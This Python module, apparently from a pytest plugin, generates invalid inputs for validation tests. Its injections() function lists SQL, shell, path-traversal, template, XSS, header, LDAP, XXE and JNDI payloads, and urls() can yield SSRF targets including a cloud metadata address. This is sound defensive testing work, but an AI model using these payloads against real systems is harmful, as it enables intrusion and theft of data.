"""Ready strategies of values that are not valid, for ``ralph.validates_input``: used as ``ralph.invalid``.

Each function gives a Hypothesis strategy for one kind of thing that programs pass around. All of its values
break the rule that the function names, whatever else the program asks for; what only some programs refuse
has to be asked for. Strategies are joined with ``|``, and narrowed with ``.filter``.
"""

from __future__ import annotations

import math
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

__all__ = [
    "amounts",
    "currencies",
    "dates",
    "emails",
    "ids",
    "injections",
    "json",
    "text",
    "tokens",
    "urls",
]

Values = SearchStrategy[Any]

_NUL, _NEWLINE, _NO_BREAK = "\x00", "\n", "\u00a0"
_NOT_TEXT: tuple[object, ...] = (None, True, 0, 1.5, b"bytes", [], {})


def amounts(
    *, zero: bool = False, decimals: int | None = 2, largest: float = 10**12, strings: bool = True
) -> Values:
    """Amounts of money that nobody can pay.

    Yields NaN and the infinities (as ``float`` and ``Decimal``), negative numbers, numbers with too many
    decimal places, numbers that are too large, ``True`` and ``False`` (which are integers in Python),
    ``None``, empty containers, and text that holds a number.

    IEEE 754 makes every comparison with NaN false, so ``amount <= 0`` does not catch it. The number of
    decimal places of a currency is its minor unit in ISO 4217: 2 for most, 0 for JPY, 3 for KWD.

    Args:
        zero: Whether zero is among them too.
        decimals: How many decimal places are right; 0 for amounts in minor units; None if any are.
        largest: The largest right amount. The default of a million million is far above what one
            payment moves, and far below 2**53 hundredths, where a float cannot tell amounts apart any more.
        strings: Whether text that holds a number is among them.

    Raises:
        ValueError: An argument makes no sense.

    Example:
        >>> import pytest_ralph as ralph
        >>> @ralph.validates_input(amount=ralph.invalid.amounts(zero=True), rejects=(TypeError, ValueError))
        ... def test_charge(gateway, amount): ...
    """
    if decimals is not None and (
        isinstance(decimals, bool) or not isinstance(decimals, int) or decimals not in range(13)
    ):
        raise ValueError(f"decimals must be a whole number from 0 to 12, or None, got {decimals!r}")
    if isinstance(largest, bool) or not isinstance(largest, (int, float)) or not 0 < largest < math.inf:
        raise ValueError(f"largest must be a finite number above 0, got {largest!r}")
    special = [
        float("nan"),
        float("inf"),
        float("-inf"),
        Decimal("NaN"),
        Decimal("sNaN"),
        Decimal("-Infinity"),
    ]
    kinds: list[Values] = [
        _any_of(special),
        st.integers(max_value=-1),
        _any_of((-0.01, -1.0, -1e308, Decimal("-0.01"))),
        st.integers(min_value=math.floor(largest) + 1),
        _any_of((float(largest) * 10, Decimal(math.floor(largest)) * 10, 1e308, 10**400)),
        _any_of((True, False, None, [], {}, (), b"100", 1 + 0j)),
    ]
    if zero:
        kinds.append(_any_of((0, 0.0, -0.0, Decimal(0))))
    if decimals is not None:
        kinds.append(_too_precise(decimals))
    if strings:
        kinds.append(_any_of(("100", "", " 100 ", "1e3", "NaN", "1,000.00", "0x10", "\u0661\u0660", "1_000")))
    return st.one_of(kinds)


def _too_precise(decimals: int) -> Values:
    step = Decimal(1).scaleb(-decimals - 1)
    digits = st.integers(1, 10**6).filter(lambda number: number % 10 != 0)
    exact = digits.map(lambda number: number * step)
    return exact | exact.map(float)


def tokens(*, longest: int = 8_192) -> Values:
    """Access tokens, API keys and the like that cannot stand in a header.

    Yields what is not a ``b64token`` (RFC 6750, section 2.1: letters, digits, ``-._~+/`` and ``=`` at the
    end): empty and blank text, blanks around a token, control characters, line breaks that would begin
    another header (RFC 9110, section 5.5, forbids them), NUL, other scripts, quotes; also tokens that are
    too long, ``None`` and other things that are no text.

    Args:
        longest: How long a right token may be, in characters. By default as much as the servers in use take
            for a whole header.

    Raises:
        ValueError: ``longest`` is less than 1.
    """
    strange = " \t\n\r\x00\x7f\"'\\,;:<>{}\u00e9\u4e2d\u202e\ud800"
    return st.one_of(
        _any_of(("", " ", _NUL, "tok visa", " tok_visa", "tok_visa ", "tok_visa\n", "tok\r\nX-Admin: 1")),
        _with_one_of(strange),
        _too_long(longest),
        _any_of(_NOT_TEXT),
    )


def ids(*, longest: int = 255, integers: bool = True) -> Values:
    """Identifiers that change a path, a query or a key they are put into.

    Yields text with characters that RFC 3986, section 2.3, does not count as unreserved (slashes, question
    marks, percent signs, blanks, control characters, other scripts), the dot segments ``.`` and ``..``
    (section 5.2.4), empty and overlong text, ``None``, numbers that are not whole, negative ones and zero,
    booleans.

    Args:
        longest: How long a right id may be, in characters.
        integers: Whether integers below 1 are among them: leave it, unless they are right ids.

    Raises:
        ValueError: ``longest`` is less than 1.
    """
    kinds: list[Values] = [
        _any_of(("", ".", "..", "../1", "1/2", "1?a=b", "1#a", "%2e%2e%2f", " 1", "1\n", "1%00", "*", "1,2")),
        _with_one_of("/?#%&=+ \t\n\x00'\"\\;\u00e9\u202e\ud800"),
        _too_long(longest),
        _any_of((None, True, 1.5, float("nan"), [], {}, b"1")),
    ]
    if integers:
        kinds.append(st.integers(max_value=0))
    return st.one_of(kinds)


def currencies(*, unassigned: bool = True) -> Values:
    """Currency codes that are none.

    Yields what does not have the form of ISO 4217, three letters from A to Z: too short and too long codes,
    digits, blanks, line breaks at the end (which ``$`` of a regular expression lets through), letters of
    other scripts that look alike, numeric codes, ``None``. Small letters are not among them, since APIs
    differ.

    Args:
        unassigned: Whether codes of the right form that no currency has are among them: XXX (no
            currency), XTS (kept for tests), and some that are not assigned.

    Example:
        >>> import pytest_ralph as ralph
        >>> known = ralph.invalid.currencies(unassigned=False)
    """
    kinds: list[Values] = [
        _any_of(("", "US", "USDD", "U$D", "US1", "USD\n", " USD", "USD ", "$", "840", "US\x00", "U D")),
        _any_of(("\uff35\uff33\uff24", "U\u0405D", "\u20ac\u20ac\u20ac", "\u00dcSD", "USD\u200b")),
        _any_of((None, True, 840, 1.5, b"USD", ["USD"], {})),
    ]
    if unassigned:
        kinds.append(_any_of(("XXX", "XTS", "ZZZ", "AAA", "QQQ")))
    return st.one_of(kinds)


def emails() -> Values:
    """E-mail addresses that no mail can be sent to.

    Yields text without exactly one ``@`` outside of quotes, with an empty part, with dots where RFC 5321,
    section 4.1.2, has none, with a local part above 64 or a whole above 254 octets (section 4.5.3.1), with
    domain labels that begin or end with a hyphen or are above 63 octets (RFC 1035, section 2.3.4), with
    blanks, line breaks (that would begin another header of a mail) and NUL; also ``None`` and other things
    that are no text.
    """
    return st.one_of(
        _any_of(("", "@", "ann", "ann@", "@shop.example", "ann@@shop.example", "ann@shop@example")),
        _any_of((".ann@shop.example", "ann.@shop.example", "an..n@shop.example", "ann@shop..example")),
        _any_of(
            ("ann@.example", "ann@-shop.example", "ann@shop-.example", "ann@shop.example\n", "a nn@b.example")
        ),
        _any_of(
            (
                "ann@shop.example\r\nBcc: all@shop.example",
                "ann@shop.example, bob@shop.example",
                "ann@sh op.ex",
            )
        ),
        _any_of(
            ("Ann <ann@shop.example>", "ann\x00@shop.example", "ann@shop.example\x00", "<ann@shop.example>")
        ),
        st.integers(65, 200).map(lambda size: f"{'a' * size}@shop.example"),
        st.integers(64, 200).map(lambda size: f"ann@{'a' * size}.example"),
        st.integers(5, 20).map(lambda labels: f"ann@{'.'.join(['a' * 60] * labels)}.example"),
        _any_of(_NOT_TEXT),
    )


def urls(*, private: bool = False) -> Values:
    """URLs that must not be fetched, or cannot be.

    Yields what is not an absolute ``http`` or ``https`` URL (RFC 3986, section 4.3, and RFC 9110, section
    4.2): relative ones, other schemes (``file``, ``javascript``, ``data``, ``gopher``), URLs without a host,
    with a port that is none, with blanks, control characters and line breaks, with a password (RFC 9110,
    section 4.2.4), with brackets that do not close; also ``None`` and other things that are no text.

    Args:
        private: Whether URLs of loopback, of private networks and of cloud metadata services are among
            them: the targets of server-side request forgery (OWASP Top Ten 2021, A10).
    """
    kinds: list[Values] = [
        _any_of(
            ("", " ", "/", "//shop.example/a", "shop.example/a", "http:", "http://", "https:///a", "http:/a")
        ),
        _any_of(("file:///etc/passwd", "javascript:alert(1)", "data:text/html,a", "gopher://shop.example/")),
        _any_of(("ftp://shop.example/a", "mailto:ann@shop.example", "ldap://shop.example", "jar:http://a!/")),
        _any_of(
            (
                "http://shop.example:99999/",
                "http://shop.example:port/",
                "http://[::1",
                "http://shop.example:-1",
            )
        ),
        _any_of(("http://sh op.example/", "http://shop.example/a b", "http://shop.example/\r\nX-Admin: 1")),
        _any_of(
            (
                "http://shop.example/\x00",
                " http://shop.example/",
                "http://shop.example/\n",
                "ht!tp://a.example/",
            )
        ),
        _any_of(
            (
                "https://ann:secret@shop.example/",
                "https://shop.example@evil.example/",
                "http://?a=b",
                "http://#a",
            )
        ),
        _any_of(_NOT_TEXT),
    ]
    if private:
        kinds.append(_any_of(("http://127.0.0.1/", "http://localhost/", "http://[::1]/", "http://10.0.0.1/")))
        kinds.append(
            _any_of(("http://169.254.169.254/latest/meta-data/", "http://0.0.0.0/", "http://2130706433/"))
        )
    return st.one_of(kinds)


def dates() -> Values:
    """Calendar dates that are none, as text.

    Yields what is not a date in the extended form of ISO 8601, ``YYYY-MM-DD`` (the ``full-date`` of RFC
    3339): days that the calendar does not have, such as February 29 in years that are no leap years (1900
    was none), months 0 and 13, other orders and separators, missing zeros, year 0, digits of other scripts
    (which ``int`` takes), text around it, words; also ``None``, numbers and other things that are no text.
    """
    ordinary = st.integers(1901, 2099).filter(lambda year: year % 4 != 0)
    return st.one_of(
        _any_of(("", "2023-02-29", "1900-02-29", "2023-02-30", "2023-04-31", "2023-00-10", "2023-13-01")),
        _any_of(("2023-01-00", "2023-01-32", "0000-01-01", "2023-1-1", "23-01-01", "01/02/2023", "1.2.2023")),
        _any_of(("2023-01-01\n", " 2023-01-01", "2023-01-01x", "2023-01", "2023", "today", "2023-01-01\x00")),
        _any_of(("\uff12\uff10\uff12\uff13-01-01", "2023\u201301\u201301", "-2023-01-01", "10000-01-01")),
        ordinary.map(lambda year: f"{year}-02-29"),
        st.integers(32, 99).map(lambda day: f"2023-01-{day}"),
        _any_of((None, True, 20230101, 1672531200, float("nan"), b"2023-01-01", [], {})),
    )


def text(*, longest: int = 10_000, empty: bool = True) -> Values:
    r"""Text that breaks what stores, compares or shows it.

    Yields NUL (which C and PostgreSQL do not store), other control characters, lone surrogates (which UTF-8
    cannot encode, Unicode 3.9), marks that turn the direction of writing (Unicode Technical Report 36, and
    CVE-2021-42574), characters without a width, noncharacters, separators of lines that are none to ``\n``,
    long runs of combining marks, and text that is too long. Blank text, combining marks and long text apart,
    all of it holds a character that RFC 8264, section 4.2, does not allow in identifiers.

    Args:
        longest: How long right text may be, in characters.
        empty: Whether empty and blank text is among them.

    Raises:
        ValueError: ``longest`` is less than 1.
    """
    strange = (
        "\x00\x01\x07\x08\x0b\x1b\x7f\x85\u00ad\u200b\u200e\u2028\u2029\u202a\u202e\u2066\u2069\ufeff"
        "\ufffe\uffff\ud800\udfff\U000e0001"
    )
    kinds: list[Values] = [
        _with_one_of(strange),
        st.integers(50, 500).map(lambda marks: "a" + "\u0301" * marks),
        _too_long(longest),
    ]
    if empty:
        kinds.append(_any_of(("", " ", "\t", "\n", _NO_BREAK, "\u3000")))
    return st.one_of(kinds)


def json(*, depth: int = 1_000, size: int = 1_000_000) -> Values:
    """JSON documents, as text, that break a parser or the program behind it.

    Yields documents that are nested too deeply or too large (RFC 8259, section 9, lets a parser limit both),
    that are cut off, that hold ``NaN`` and ``Infinity`` (which Python reads and writes, though section 6
    forbids them), numbers beyond any float or of thousands of digits, the same name twice (section 4),
    escapes of lone surrogates (section 8.2), comments, trailing commas, single quotes, a byte order mark
    (section 8.1), or nothing.

    Args:
        depth: How deeply a right document may be nested.
        size: How long a right document may be, in characters.

    Raises:
        ValueError: An argument is less than 1.
    """
    _positive("depth", depth)
    _positive("size", size)
    more = st.integers(depth + 1, depth + 1_000)
    return st.one_of(
        _any_of(
            ("", " ", "{", "[", '{"a": 1', "[1,]", '{"a": 1,}', "{'a': 1}", "[1] [2]", "// none", "undefined")
        ),
        _any_of(
            ("NaN", "Infinity", "-Infinity", '{"a": NaN}', "[1e400]", "[-1e400]", f"[{'9' * 5_000}]", "[01]")
        ),
        _any_of(
            ('{"a": 1, "a": 2}', '"\\ud800"', '"\x00"', '"\t"', "\ufeff{}", '{"a": "\\udfff"}', '"\\x41"')
        ),
        more.map(lambda levels: "[" * levels + "]" * levels),
        more.map(lambda levels: '{"a":' * levels + "1" + "}" * levels),
        st.integers(size - 1, size + 1_000).map(lambda length: f'"{"a" * length}"'),
    )


def injections() -> Values:
    """Text that is harmless until it is put into SQL, a command, a path, a template, a page or a header.

    Yields one or more examples each of what the OWASP Top Ten 2021 counts under A03 (injection) and A01 (path
    traversal): SQL (CWE-89), shell commands (CWE-78), paths (CWE-22), templates (CWE-1336), HTML (CWE-79),
    header lines (CWE-113), LDAP filters (CWE-90), XML entities (CWE-611), format strings (CWE-134), log
    lines (CWE-117). Code that never interprets its input need not reject them: use this where the rule is to
    refuse.
    """
    return st.one_of(
        _any_of(
            ("' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(10)", "admin'--")
        ),
        _any_of(("; ls", "$(id)", "`id`", "| cat /etc/passwd", "&& reboot", "a\nid", "-o ProxyCommand=id")),
        _any_of(
            ("../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "%2e%2e%2fa", "a.txt\x00.png", "....//a")
        ),
        _any_of(
            ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% import os %}", "${jndi:ldap://a.example/a}")
        ),
        _any_of(("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)")),
        _any_of(
            ("a\r\nSet-Cookie: admin=1", "a\r\n\r\n<html>", "a\nX-Admin: 1", "a\n2023-01-01 ERROR forged")
        ),
        _any_of(("*)(uid=*))(|(uid=*", '<!ENTITY a SYSTEM "file:///etc/passwd">', "%s%s%n", "{0.__class__}")),
    )


def _any_of(values: Iterable[object]) -> Values:
    return st.sampled_from(list(values))


def _with_one_of(characters: str) -> Values:
    """Ordinary text with one of these characters somewhere in it."""
    return st.tuples(
        st.sampled_from(("", "a", "tok_1")), st.sampled_from(characters), st.sampled_from(("", "b", "2"))
    ).map("".join)


def _too_long(longest: int) -> Values:
    _positive("longest", longest)
    return st.integers(longest + 1, longest + 1_000).map(lambda length: "a" * length)


def _positive(name: str, value: object) -> None:
    if isinstance(value, bool) or not isinstance(value, int) or value < 1:
        raise ValueError(f"{name} must be a whole number from 1, got {value!r}")
